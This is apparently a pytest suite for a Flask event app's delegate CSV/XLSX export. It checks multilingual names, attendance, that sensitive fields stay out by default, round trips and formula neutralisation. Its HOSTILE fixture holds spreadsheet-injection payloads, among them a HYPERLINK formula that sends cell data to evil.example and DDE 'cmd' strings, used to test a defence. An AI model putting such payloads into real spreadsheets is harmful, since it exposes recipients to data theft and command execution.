"""`flask delegates export`: CSV and XLSX read back, every script intact, attendance, safety, round trip."""
import csv
import io
import random
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import event as sa_event
from sqlalchemy import select

from events_app.attendance.services import check_in
from events_app.choices import DELEGATE_FIELDS, VISA_FIELDS, ParticipantRole, Status
from events_app.delegate_files.exporting import csv_chunks, export_columns, export_rows, neutralise_formula
from events_app.registration import lifecycle
from events_app.registration.models import Registration

SAMPLE = Path(__file__).parent / "data" / "delegates_sample.csv"
STARTS = date(2027, 3, 10)
DAYS = ["attended_2027-03-10", "attended_2027-03-11", "attended_2027-03-12"]
HEADER = [f for f in DELEGATE_FIELDS if f not in VISA_FIELDS] + [
    "status", "participant_role", "registered_at", "days_attended", *DAYS]
SCRIPTS = {  # email: full_name, one per script of the region
    "sok.chanthy@example.org": "សុខ ចាន់ធី",
    "oulaivanh@example.org": "ອຸໄລວັນ ແສງສຸລິນ",
    "aung.myint.htun@example.org": "အောင်မြင့်ထွန်း",
    "somchai.j@example.org": "สมชาย ใจดี",
    "huong.nguyen@example.org": "Nguyễn Thị Hương",
    "li.minghua@example.org": "李明华",
}


def invoke(app, *args):
    return app.test_cli_runner().invoke(args=["delegates", *map(str, args)])


def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def read_xlsx(path: Path) -> tuple[list[str], list[dict]]:
    with path.open("rb") as handle:  # whatever the file's extension
        sheet = load_workbook(handle).worksheets[0]
    header, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    return header, [dict(zip(header, row, strict=True)) for row in rows]


@pytest.fixture()
def symposium(app, db, make_event):
    """An event with the 26 sample delegates imported: two checked in, one speaker, one cancelled."""
    event = make_event(slug="bangkok-2027", starts_on=STARTS)
    assert invoke(app, "import", event.slug, SAMPLE).exit_code == 0
    by_email = {r.email: r for r in db.session.scalars(select(Registration))}
    check_in(by_email["sok.chanthy@example.org"], day=STARTS)
    check_in(by_email["sok.chanthy@example.org"], day=STARTS + timedelta(days=2))
    check_in(by_email["li.minghua@example.org"], day=STARTS + timedelta(days=1))
    by_email["somchai.j@example.org"].participant_role = ParticipantRole.SPEAKER
    lifecycle.change_status(by_email["k.watanabe@example.org"], Status.CANCELLED, notify=False)
    db.session.commit()
    return event


def test_csv_export_reads_back_with_every_script_and_attendance(app, db, symposium, tmp_path):
    out = tmp_path / "delegates.csv"
    result = invoke(app, "export", symposium.slug, "-o", out)
    assert result.exit_code == 0, result.output
    assert result.stdout == f"Exported 26 registrations of bangkok-2027 to {out}.\n"
    with out.open(encoding="utf-8-sig", newline="") as handle:
        assert next(csv.reader(handle)) == HEADER
    rows = {row["email"]: row for row in read_csv(out)}
    assert len(rows) == 26
    for email, name in SCRIPTS.items():
        assert rows[email]["full_name"] == name
    sok = rows["sok.chanthy@example.org"]
    assert (sok["name_latin"], sok["languages"], sok["country"], sok["stakeholder_group"]) == (
        "Sok Chanthy", "km en", "KH", "migrant_group")
    assert (sok["data_consent"], sok["needs_visa_letter"], sok["status"]) == ("yes", "no", "approved")
    assert (sok["days_attended"], sok[DAYS[0]], sok[DAYS[1]], sok[DAYS[2]]) == ("2", "y", "", "y")
    assert rows["li.minghua@example.org"]["days_attended"] == "1"
    assert rows["somchai.j@example.org"]["participant_role"] == "speaker"
    assert rows["k.watanabe@example.org"]["status"] == "cancelled"
    assert sok["registered_at"].endswith("Z") and len(sok["registered_at"]) == 20
    assert list(rows) == sorted(rows, key=lambda e: (rows[e]["name_latin"] or rows[e]["full_name"]).casefold())


def test_xlsx_export_reads_back_with_every_script_and_attendance(app, db, symposium, tmp_path):
    out = tmp_path / "delegates.xlsx"
    result = invoke(app, "export", symposium.slug, "-o", out)
    assert result.exit_code == 0, result.output
    header, rows = read_xlsx(out)
    assert header == HEADER
    rows = {row["email"]: row for row in rows}
    assert len(rows) == 26
    for email, name in SCRIPTS.items():
        assert rows[email]["full_name"] == name
    sok = rows["sok.chanthy@example.org"]
    assert (sok["languages"], sok["status"], sok["days_attended"], sok[DAYS[0]], sok[DAYS[1]]) == (
        "km en", "approved", 2, "y", None)


def test_format_option_wins_over_the_extension_and_status_filters(app, db, symposium, tmp_path):
    out = tmp_path / "cancelled.data"
    result = invoke(app, "export", symposium.slug, "-o", out, "--format", "xlsx", "--status", "cancelled")
    assert result.exit_code == 0, result.output
    _header, rows = read_xlsx(out)
    assert [row["email"] for row in rows] == ["k.watanabe@example.org"]


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_an_event_without_delegates_exports_the_header_row_alone(app, db, make_event, tmp_path, suffix):
    event = make_event(starts_on=STARTS)
    out = tmp_path / f"empty.{suffix}"
    result = invoke(app, "export", event.slug, "-o", out)
    assert result.exit_code == 0, result.output
    if suffix == "csv":
        assert out.read_bytes().decode("utf-8-sig") == ",".join(HEADER) + "\r\n"
    else:
        header, rows = read_xlsx(out)
        assert (header, rows) == (HEADER, [])


VISA = {"needs_visa_letter": True, "nationality": "Cambodian", "passport_number": "N1234567",
        "date_of_birth": "1990-01-01", "passport_expiry": "2031-01-01"}


def test_passport_details_only_with_include_sensitive(app, db, make_event, make_registration, tmp_path):
    event = make_event(starts_on=STARTS)
    make_registration(event, **VISA)
    default, sensitive = tmp_path / "default.csv", tmp_path / "sensitive.csv"
    assert invoke(app, "export", event.slug, "-o", default).exit_code == 0
    assert invoke(app, "export", event.slug, "-o", sensitive, "--include-sensitive").exit_code == 0
    assert "N1234567" not in default.read_text(encoding="utf-8-sig")
    assert not set(VISA_FIELDS) & set(read_csv(default)[0])
    row = read_csv(sensitive)[0]
    assert (row["needs_visa_letter"], row["passport_number"], row["date_of_birth"]) == ("yes", "N1234567", "1990-01-01")
    assert "--include-sensitive" in invoke(app, "export", "--help").stdout


HOSTILE = {
    "organisation": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "position": "+cmd|' /C calc'!A0",
    "dietary_notes": "-2+3+cmd|' /C calc'!A0",
    "accessibility_needs": "@SUM(1+1)*cmd|' /C calc'!A0",
    "region": "\t=1+1",
    "phone": "+66812345678",  # a plain number: left as it is
}


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_formulas_are_neutralised_with_an_apostrophe(app, db, make_event, make_registration, tmp_path, suffix):
    event = make_event(starts_on=STARTS)
    make_registration(event, **HOSTILE)
    out = tmp_path / f"hostile.{suffix}"
    assert invoke(app, "export", event.slug, "-o", out).exit_code == 0
    row = read_csv(out)[0] if suffix == "csv" else read_xlsx(out)[1][0]
    for column, value in HOSTILE.items():
        expected = value if column == "phone" else "'" + value
        assert row[column] == expected, column
    if suffix == "xlsx":
        sheet = load_workbook(out).worksheets[0]  # no cell is stored as a formula
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_round_trip_export_then_import_into_another_event(app, db, symposium, make_event, make_registration,
                                                         tmp_path):
    hostile = {k: v for k, v in HOSTILE.items() if k != "region"}  # the form strips a leading tab
    make_registration(symposium, **VISA, arrival_date=date(2027, 3, 9), departure_date=date(2027, 3, 13),
                      languages=["km", "th"], dietary="halal", list_publicly=True, **hostile)
    next_year = make_event(slug="bangkok-2028", starts_on=date(2028, 3, 8))
    fields = [f for f in DELEGATE_FIELDS if f != "locale"] + ["locale", "participant_role"]
    for suffix in ("csv", "xlsx"):
        db.session.execute(Registration.__table__.delete().where(Registration.event_id == next_year.id))
        db.session.commit()
        out = tmp_path / f"roundtrip.{suffix}"
        assert invoke(app, "export", symposium.slug, "-o", out, "--include-sensitive").exit_code == 0
        result = invoke(app, "import", next_year.slug, out)
        assert result.exit_code == 0, result.output
        assert "27 new delegates" in result.stdout
        before = _snapshot(db, symposium.id, fields)
        assert _snapshot(db, next_year.id, fields) == before
        assert before["delegate1@example.org"]["passport_number"] == "N1234567"
        assert before["delegate1@example.org"]["organisation"] == HOSTILE["organisation"]


def test_visa_delegates_exported_without_passports_cannot_be_imported_and_it_says_why(
        app, db, make_event, make_registration, tmp_path):
    event = make_event(starts_on=STARTS)
    make_registration(event, **VISA)
    other = make_event()
    out = tmp_path / "no-passports.csv"
    assert invoke(app, "export", event.slug, "-o", out).exit_code == 0
    result = invoke(app, "import", other.slug, out)
    assert result.exit_code == 1
    assert "row 2, passport_number: Needed for the visa letter." in result.stderr
    assert "export with --include-sensitive" in result.stderr
    assert db.session.scalar(select(Registration).where(Registration.event_id == other.id)) is None


def _snapshot(db, event_id: int, fields: list[str]) -> dict[str, dict]:
    db.session.expire_all()
    query = select(Registration).where(Registration.event_id == event_id)
    return {r.email: {f: getattr(r, f) for f in fields} for r in db.session.scalars(query)}


def test_export_takes_the_same_number_of_queries_for_3_or_30_delegates(app, db, make_event, make_registration):
    def statements(size: int) -> int:
        event = make_event(starts_on=STARTS)
        for _ in range(size):
            registration = make_registration(event, **VISA)
            check_in(registration, day=STARTS)
        db.session.commit()
        db.session.expire_all()
        seen = []

        def count(*_args):
            seen.append(1)

        assert event.days  # the event itself is loaded by the command before the export
        engine = db.engine
        sa_event.listen(engine, "before_cursor_execute", count)
        try:
            rows = list(export_rows(event, include_sensitive=True))
        finally:
            sa_event.remove(engine, "before_cursor_execute", count)
        assert len(rows) == size and all(len(row) == len(export_columns(event, include_sensitive=True))
                                         for row in rows)
        return len(seen)

    assert statements(3) == statements(30) == 2  # the questions, then the registrations with their attendance


def test_unknown_event_and_unwritable_output_say_why_in_one_line(app, db, make_event, tmp_path):
    unknown = invoke(app, "export", "no-such-event", "-o", tmp_path / "x.csv")
    assert unknown.exit_code == 1
    assert unknown.stderr == "Error: no event with the slug 'no-such-event' (see `flask events list`)\n"
    event = make_event()
    nowhere = invoke(app, "export", event.slug, "-o", tmp_path / "missing-folder" / "x.csv")
    assert nowhere.exit_code == 1 and len(nowhere.stderr.strip().splitlines()) == 1
    assert "cannot write" in nowhere.stderr
    assert list(tmp_path.iterdir()) == []


def test_csv_to_standard_output(app, db, symposium):
    result = invoke(app, "export", symposium.slug, "-o", "-")
    assert result.exit_code == 0
    lines = result.stdout.lstrip("\ufeff").splitlines()
    assert lines[0] == ",".join(HEADER) and len(lines) == 27


def test_answers_to_the_event_questions_are_exported_and_imported_back(app, db, make_event, make_registration,
                                                                      tmp_path):
    import csv

    from events_app.events.models import Question

    def with_questions(event):
        db.session.add_all([
            Question(event_id=event.id, key="workshop", label="Which workshop?", kind="choice",
                     options=["Recruitment fees", "Return"], required=True, position=1),
            Question(event_id=event.id, key="first_time", label="First time?", kind="yes_no", position=2),
        ])
        db.session.commit()
        return event

    source = with_questions(make_event())
    registration = make_registration(source, full_name="Khin Mar Oo")
    registration.answers = {"workshop": "Recruitment fees", "first_time": True}
    db.session.commit()
    out = tmp_path / "answers.csv"
    result = app.test_cli_runner().invoke(args=["delegates", "export", source.slug, "-o", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8-sig", newline="") as handle:
        row = next(csv.DictReader(handle))
    assert (row["q_workshop"], row["q_first_time"]) == ("Recruitment fees", "yes")

    target = with_questions(make_event())
    result = app.test_cli_runner().invoke(args=["delegates", "import", target.slug, str(out)])
    assert result.exit_code == 0, result.output
    imported = db.session.scalar(select(Registration).where(Registration.event_id == target.id))
    assert imported.answers == {"workshop": "Recruitment fees", "first_time": True}

    plain = make_event()  # an event without these questions reads the columns past
    result = app.test_cli_runner().invoke(args=["delegates", "import", plain.slug, str(out)])
    assert result.exit_code == 0, result.output
    assert "q_workshop" in result.output


def test_csv_pieces_neutralise_exactly_the_cells_one_by_one_would():
    """The CSV is checked for formulas a chunk at a time, not cell by cell: it must never miss one."""
    rng = random.Random(2026)
    alphabet = "=+-@\t\r\n,\" 0123456789().-a๑'"
    for _ in range(20000):
        row = ["".join(rng.choice(alphabet) for _ in range(rng.randrange(6))) for _ in range(rng.randrange(1, 4))]
        expected = io.StringIO()
        csv.writer(expected).writerows([["h"], [neutralise_formula(value) for value in row]])
        assert "".join(csv_chunks(["h"], [row], rows_per_chunk=1)) == expected.getvalue(), row
    rows = [["+66 81 234 5678", "-12.5", "Step-free", 3], ["=1+1", "@SUM(A1)", "-x", None]]
    assert list(csv.reader(io.StringIO("".join(csv_chunks(["a", "b", "c", "d"], rows))))) == [
        ["a", "b", "c", "d"], ["+66 81 234 5678", "-12.5", "Step-free", "3"], ["'=1+1", "'@SUM(A1)", "'-x", ""]]


def test_registration_time_is_cut_to_the_second_in_utc_as_before(app, db, make_event, make_registration):
    event = make_event(starts_on=STARTS)
    registration = make_registration(event)
    registration.registered_at = datetime(2026, 11, 30, 23, 59, 59, 999999, tzinfo=UTC)
    db.session.commit()
    (row,) = export_rows(event, columns=["registered_at", "arrival_date", "languages", "data_consent", "gender"])
    assert row == ["2026-11-30T23:59:59Z", "", "", "yes", ""]
